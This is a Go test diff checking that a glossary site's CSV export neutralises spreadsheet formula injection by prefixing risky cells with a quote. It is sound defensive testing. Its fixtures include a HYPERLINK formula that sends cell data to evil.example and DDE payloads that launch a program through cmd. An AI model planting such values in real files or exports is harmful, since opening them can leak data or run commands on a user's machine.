@@ -1,6 +1,9 @@
 package opendata
 
 import (
+	"bytes"
+	"encoding/csv"
+	"strings"
 	"testing"
 	"time"
 
@@ -59,5 +62,69 @@ func TestProvenance(t *testing.T) {
 		if got := site.Provenance(tc.e); got != tc.want {
 			t.Errorf("Provenance = %q\nwant %q", got, tc.want)
 		}
+	}
+}
+
+// TestCSVFormulaGuard writes hostile values into every column people
+// write, and reads the file back as a spreadsheet would see its cells: no
+// cell may start with a character that makes a formula, and each guarded
+// cell is its value as written behind one quote.
+func TestCSVFormulaGuard(t *testing.T) {
+	hostile := []string{
+		`=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
+		"+1+cmd|' /C calc'!A0",
+		"- a markdown list\n- of two items",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1",
+		"\r=1+1",
+		"\x00=1+1",
+		"'=1+1", // a quote already: guarded too, so one quote always comes off
+	}
+	at := time.Date(2026, 3, 5, 12, 0, 0, 0, time.UTC)
+	var entries []model.GlossaryEntry
+	for i, h := range hostile {
+		entries = append(entries, model.GlossaryEntry{
+			Term: model.Term{Slug: "term-" + string(rune('a'+i)), Title: h},
+			Version: model.Version{Summary: h, Markdown: h, AuthorName: h, OrganisationName: h,
+				Sector: model.Statutory, AuthorRole: "partner"},
+			AgreedAt: at, RoundID: int64(i + 1), Ballots: 3,
+		})
+	}
+	entries = append(entries, model.GlossaryEntry{
+		Term:     model.Term{Slug: "plain", Title: "Plain words"},
+		Version:  model.Version{Summary: "It's fine - really.", Markdown: "A *plain* wording, 100% safe = fine.", AuthorName: "Sam"},
+		AgreedAt: at,
+	})
+	out, err := CSV(Site{URL: "https://g.example", Licence: OGL}, entries)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(entries)+1 {
+		t.Fatalf("%d rows, want %d", len(rows), len(entries)+1)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0])) {
+				t.Errorf("cell %q starts with a formula character", cell)
+			}
+		}
+	}
+	people := []int{1, 3, 4, 5, 6} // title, summary, definition, author, organisation
+	for i, h := range hostile {
+		for _, col := range people {
+			if got := rows[i+1][col]; got != "'"+h {
+				t.Errorf("column %s of %q = %q, want it behind one quote", csvHeader[col], h, got)
+			}
+		}
+	}
+	// Cells that start with anything else are as written.
+	plain := rows[len(rows)-1]
+	if plain[1] != "Plain words" || plain[3] != "It's fine - really." || plain[4] != "A *plain* wording, 100% safe = fine." ||
+		plain[0] != "plain" || plain[2] != "https://g.example/terms/plain" || plain[8] != "2026-03-05T12:00:00Z" {
+		t.Errorf("an ordinary row changed: %q", plain)
 	}
 }
